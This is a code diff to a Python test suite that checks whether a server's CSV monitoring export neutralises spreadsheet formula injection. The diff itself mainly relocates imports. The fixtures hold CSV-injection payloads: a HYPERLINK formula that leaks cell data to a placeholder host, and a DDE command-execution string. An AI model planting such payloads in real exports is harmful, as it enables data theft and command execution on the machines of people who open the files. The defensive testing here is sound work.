@@ -11,9 +11,12 @@ import pytest
 from sqlalchemy import create_engine
 from typer.testing import CliRunner
 
-from kernel.cli.main import app
+from kernel.cli.main import build_app
+from plugins.serve import start_server
 from tests.serve.conftest import TOKEN, get
 from tests.serve.tenants import seed_tenants
+
+app = build_app([])
 
 HOSTILE = {
     0: '=HYPERLINK("http://x.test/?"&A1,"open")',
@@ -43,7 +46,7 @@ NAMES = {5: "=cmd|' /C calc'!A0", 6: "-1+1", 7: "plain name"}
     ],
 )
 def test_safe_cell(value: Any, written: Any) -> None:
-    from kernel.csvcells import safe_cell
+    from plugins.common.csvcells import safe_cell
 
     assert safe_cell(value) == written
 
@@ -65,7 +68,7 @@ def _assert_neutralised(cells: list[str]) -> None:
 def test_monitoring_csv_neutralises_formulas(make_kernel: Any, db_url: str) -> None:
     kernel = make_kernel(db_url, serve__tokens=[TOKEN], serve__top_companies=10)
     seed_tenants(create_engine(kernel.db.url), 8, ids=HOSTILE, names=NAMES)
-    handle = kernel.start_server("127.0.0.1", 0)
+    handle = start_server(kernel, "127.0.0.1", 0)
     try:
         status, _, body = get(handle.url + "/api/batch-monitoring?format=csv", TOKEN)
     finally:
